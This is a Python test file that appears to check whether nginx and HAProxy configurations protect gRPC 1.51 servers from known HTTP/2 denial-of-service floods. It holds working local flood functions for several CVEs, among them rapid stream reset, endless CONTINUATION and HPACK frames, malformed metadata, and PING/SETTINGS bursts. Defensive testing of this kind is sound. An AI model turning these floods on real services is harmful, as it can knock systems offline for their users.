"""What gRPC 1.51 does not bound, the proxies of deploy/proxy keep away from it.

Two servers, nginx and HAProxy in front of them with the configurations of
deploy/proxy, and one attacker after the other that sends what
server/OPERATING.md lists under "What stays open of gRPC 1.51". A good caller
calls through the same proxy all the time. Not one of its calls may fail, and
the servers' memory must stay where it was.

Run by CTest, or by hand:
  python proxy_floods_test.py \
      --server=build/release/tests/server/ddgan_server_with_fake_engine \
      --proxies=$HOME/.cache/ddgan/proxies
Prints what came of each flood.
"""

import argparse
import contextlib
import pathlib
import struct
import sys
import tempfile
import threading
import time
import types
import unittest

import grpc

import proxy_process
import raw_http2
from raw_http2 import RawHttp2
from server_metrics import Metrics
from server_process import generate_stubs
from server_process import ServerProcess

REPOSITORY = pathlib.Path(__file__).resolve().parents[2]
GENERATE = '/ddgan.v1.ImageGeneration/Generate'
LIMIT_S = 120  # For what happens soon, on the slowest machine.
ATTACKER = '127.0.0.2'
FLOOD_BYTES = 64 << 20
MAX_GROWTH_MIB = 40  # Of a server; a flood that comes through is 64 MiB.
RESETS = 20_000
RESETS_AT_A_TIME = 100

options = None  # Set by main(), like the four modules.
pb = images_grpc = model_pb = models_grpc = None


class GoodCaller(threading.Thread):
  """Calls through a proxy, one call after the other, until it is told to stop.

  Without second attempts: what the proxy answers counts.
  """

  def __init__(self, address):
    super().__init__()
    self._address = address
    self._stopping = threading.Event()
    self.took_s = []
    self.failures = []
    self.start()

  def run(self):
    with grpc.insecure_channel(
        self._address, [('grpc.enable_retries', 0),
                        ('grpc.use_local_subchannel_pool', 1)]) as channel:
      stub = images_grpc.ImageGenerationStub(channel)
      while not self._stopping.is_set():
        begin = time.monotonic()
        try:
          stub.Generate(pb.GenerateRequest(count=1, seed=7), timeout=LIMIT_S)
        except grpc.RpcError as error:
          self.failures.append(f'{error.code().name}: {error.details()}')
        self.took_s.append(time.monotonic() - begin)

  def wait_for_calls(self, count):
    """So many more."""
    wanted = len(self.took_s) + count
    deadline = time.monotonic() + LIMIT_S
    while len(self.took_s) < wanted:
      if time.monotonic() > deadline:
        raise AssertionError(f'no {count} calls within {LIMIT_S} s')
      time.sleep(0.01)

  def stop(self):
    self._stopping.set()
    self.join()


def send_block(caller, pieces):
  """One header block, a frame for each piece, that never ends. Returns the
  bytes that could be sent before the connection was closed."""
  sent = 0
  kind = raw_http2.HEADERS
  try:
    for piece in pieces:
      caller.socket.sendall(raw_http2.frame(kind, 0, 1, piece))
      kind = raw_http2.CONTINUATION
      sent += len(piece)
  except OSError:
    pass
  return sent


def endless(first, more):
  """`first`, then `more` until FLOOD_BYTES."""
  yield first
  for _ in range(FLOOD_BYTES // len(more)):
    yield more


# Each flood returns what it did, in words.


def reset_streams(address, source=ATTACKER):
  """CVE-2023-44487: calls that are taken back as soon as they are begun."""
  block = raw_http2.header_block(raw_http2.call_headers(GENERATE))
  reset = struct.pack('>I', raw_http2.CANCEL)
  sent = connections = 0
  while sent < RESETS:
    connections += 1
    stream = 1
    with contextlib.closing(RawHttp2(address, source)) as caller:
      while sent < RESETS and not is_over(caller):
        burst = b''
        for _ in range(RESETS_AT_A_TIME):
          burst += (raw_http2.frame(raw_http2.HEADERS, raw_http2.END_HEADERS,
                                    stream, block)
                    + raw_http2.frame(raw_http2.RST_STREAM, 0, stream, reset))
          stream += 2
        with contextlib.suppress(OSError):
          caller.socket.sendall(burst)
          sent += RESETS_AT_A_TIME
  return f'{sent} streams begun and reset on {connections} connections'


def is_over(caller):
  """Whether the peer has closed the connection; takes what it has sent."""
  caller.socket.setblocking(False)
  try:
    while caller.socket.recv(1 << 16):
      continue
    return True
  except BlockingIOError:
    return False
  except OSError:
    return True
  finally:
    caller.socket.settimeout(LIMIT_S)


def continue_headers(address):
  """CVE-2023-33953: each frame of a header block is small, the block has no
  end."""
  with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
    sent = send_block(caller, endless(
        raw_http2.header_block(raw_http2.call_headers(GENERATE)),
        raw_http2.header_block([(f'x-{i}', 'y' * 3000) for i in range(5)])))
  return f'{sent >> 20} MiB of headers sent'


def send_long_string(address):
  """CVE-2023-33953: one field that says it has a gigabyte."""
  with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
    sent = send_block(caller, endless(
        raw_http2.header_block(raw_http2.call_headers(GENERATE))
        + b'\0\1x' + raw_http2.integer(1 << 30), b'y' * 16000))
  return f'{sent >> 20} MiB of one field sent'


def send_long_integer(address):
  """CVE-2023-33953: a length with zeros before it that do not end."""
  with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
    sent = send_block(caller, endless(
        raw_http2.header_block(raw_http2.call_headers(GENERATE))
        + b'\0\1x\x7f', b'\x80' * 16000))
  return f'{sent >> 20} MiB of one number sent'


def send_bad_base64(address):
  """As CVE-2023-32732: gRPC closes the connection, which is the proxy's."""
  for _ in range(50):
    with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
      # A proxy lets a caller share connections with others once a call of his
      # has gone well.
      for metadata in ((), [('x-bin', '!')]):
        caller.call(GENERATE, pb.GenerateRequest(count=1).SerializeToString(),
                    metadata)
        caller.wait_for(raw_http2.HEADERS, LIMIT_S)
  return '50 calls'


def send_abort_headers(address):
  """CVE-2023-1428: a header of three, and others of more than 8 KB."""
  many = [(f'x-{i}', 'y' * 2000) for i in range(5)]
  for headers in (
      [(name, 'x' if name == 'te' else value)
       for name, value in raw_http2.call_headers(GENERATE)],
      [(name, 'x' if name == ':scheme' else value)
       for name, value in raw_http2.call_headers(GENERATE)],
      raw_http2.call_headers(GENERATE, [('grpclb_client_stats', 'x')])):
    with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
      caller.socket.sendall(raw_http2.frame(
          raw_http2.HEADERS, raw_http2.END_HEADERS | raw_http2.END_STREAM, 1,
          raw_http2.header_block(headers + many)))
      # Until it is answered, or refused as no call at all.
      while ((received := caller.read_frame(LIMIT_S)) and
             received[0] not in (raw_http2.HEADERS, raw_http2.RST_STREAM)):
        continue
  return '3 calls'


def send_pings_and_settings(address):
  """Frames that want an answer, which nobody reads."""
  sent = 0
  burst = 1000 * (raw_http2.frame(raw_http2.PING, 0, 0, bytes(8))
                  + raw_http2.frame(raw_http2.SETTINGS, 0, 0))
  with contextlib.closing(RawHttp2(address, ATTACKER)) as caller:
    caller.socket.settimeout(1)
    with contextlib.suppress(OSError):
      for _ in range(100):
        caller.socket.sendall(burst)
        sent += 2000
  return f'{sent} frames sent'


FLOODS = (reset_streams, continue_headers, send_long_string, send_long_integer,
          send_bad_base64, send_abort_headers, send_pings_and_settings)


class ProxyFloodsTest(unittest.TestCase):

  def setUp(self):
    folder = tempfile.TemporaryDirectory(prefix='ddgan-models-')
    self.addCleanup(folder.cleanup)
    (pathlib.Path(folder.name) / 'shape').write_text('3 32 32')
    self.servers = [
        self.enterContext(ServerProcess(
            options.server, folder.name, ['--access_log=none']))
        for _ in range(2)]
    self.replicas = [
        types.SimpleNamespace(
            grpc_port=int(server.grpc_address.split(':')[1]),
            http_port=int(server.http_address.split(':')[1]))
        for server in self.servers]

  def flood(self, start_proxy):
    proxy = start_proxy(options.proxies, self.replicas)
    self.addCleanup(proxy.close)
    address = f'127.0.0.1:{proxy.port}'
    good = GoodCaller(address)
    self.addCleanup(good.stop)
    good.wait_for_calls(100)
    for flood in FLOODS:
      with self.subTest(flood.__name__):
        before = [server.memory_mib() for server in self.servers]
        first = len(good.took_s)
        begin = time.monotonic()
        did = flood(address)
        lasted = time.monotonic() - begin
        during = good.took_s[first:] or [0]
        good.wait_for_calls(50)
        growth = max(server.memory_mib() - size
                     for server, size in zip(self.servers, before))
        print(f'{proxy.name}, {flood.__name__}: {did} in {lasted:.1f} s; '
              f'{len(during)} good calls meanwhile, the longest took '
              f'{1000 * max(during):.0f} ms; {growth:+.1f} MiB', flush=True)
        self.assertLess(growth, MAX_GROWTH_MIB)
        self.assertEqual(good.failures, [], proxy.log())
        for server in self.servers:
          self.assertIsNone(server.exit_code())
    good.stop()
    for server in self.servers:
      metrics = Metrics(server)
      self.assertGreater(metrics.sum('ddgan_requests_total', code='OK'), 0)

  def refuse(self, start_proxy):
    """What a caller is told from whose own address a flood comes."""
    proxy = start_proxy(options.proxies, self.replicas)
    self.addCleanup(proxy.close)
    address = f'127.0.0.1:{proxy.port}'
    over = threading.Event()
    def keep_flooding():
      while not over.is_set():
        reset_streams(address, '127.0.0.1')
    flood = threading.Thread(target=keep_flooding)
    flood.start()
    codes = set()
    try:
      with grpc.insecure_channel(
          address, [('grpc.enable_retries', 0)]) as channel:
        stub = images_grpc.ImageGenerationStub(channel)
        deadline = time.monotonic() + LIMIT_S
        while 'RESOURCE_EXHAUSTED' not in codes:
          try:
            stub.Generate(pb.GenerateRequest(count=1, seed=7), timeout=LIMIT_S)
            codes.add('OK')
          except grpc.RpcError as error:
            codes.add(error.code().name)
          self.assertLess(time.monotonic(), deadline, codes)
      if proxy.name == 'haproxy':
        self.expect_content_type(address, deadline)
    finally:
      over.set()
      flood.join()
    self.assertLessEqual(codes, {'OK', 'RESOURCE_EXHAUSTED'})

  def expect_content_type(self, address, deadline):
    """Of a refusal, while a flood goes on: clients in Go and Java look at it.

    HAProxy writes headers as they are, so they are found without HPACK.
    """
    refusal = b''
    while b'too many calls' not in refusal:
      self.assertLess(time.monotonic(), deadline)
      caller = RawHttp2(address)
      caller.call(GENERATE, b'')
      answer = caller.wait_for(raw_http2.HEADERS, LIMIT_S)
      caller.close()
      refusal = answer[3] if answer else b''
    self.assertIn(b'application/grpc', refusal)

  def list_models(self, address):
    """The code of a call of what is not for strangers, and its message."""
    with grpc.insecure_channel(address) as channel:
      stub = models_grpc.ModelServiceStub(channel)
      try:
        stub.ListModels(model_pb.ListModelsRequest(), timeout=LIMIT_S)
        return 'OK', ''
      except grpc.RpcError as error:
        return error.code().name, error.details()

  def test_strangers_are_served_images_alone(self):
    self.assertEqual(self.list_models(self.servers[0].grpc_address),
                     ('OK', ''))
    for start_proxy in (proxy_process.start_nginx,
                        proxy_process.start_haproxy):
      proxy = start_proxy(options.proxies, self.replicas)
      self.addCleanup(proxy.close)
      with self.subTest(proxy.name):
        # What clients make of the HTTP status 404.
        code, details = self.list_models(f'127.0.0.1:{proxy.port}')
        self.assertEqual(code, 'UNIMPLEMENTED')
        self.assertIn('404', details)

  def test_nginx_keeps_floods_away(self):
    self.flood(proxy_process.start_nginx)

  def test_haproxy_keeps_floods_away(self):
    self.flood(proxy_process.start_haproxy)

  def test_nginx_refuses_too_many_calls_of_one_address(self):
    self.refuse(proxy_process.start_nginx)

  def test_haproxy_refuses_too_many_calls_of_one_address(self):
    self.refuse(proxy_process.start_haproxy)


def main():
  global options, pb, images_grpc, model_pb, models_grpc
  parser = argparse.ArgumentParser(description=__doc__)
  parser.add_argument('--server', required=True,
                      help='the ddgan_server_with_fake_engine binary')
  parser.add_argument('--proxies', required=True,
                      help='folder with usr/sbin/nginx and usr/sbin/haproxy')
  options, rest = parser.parse_known_args()
  pb, images_grpc, model_pb, models_grpc = generate_stubs(REPOSITORY / 'proto')
  unittest.main(argv=[sys.argv[0], *rest], verbosity=2)


if __name__ == '__main__':
  main()
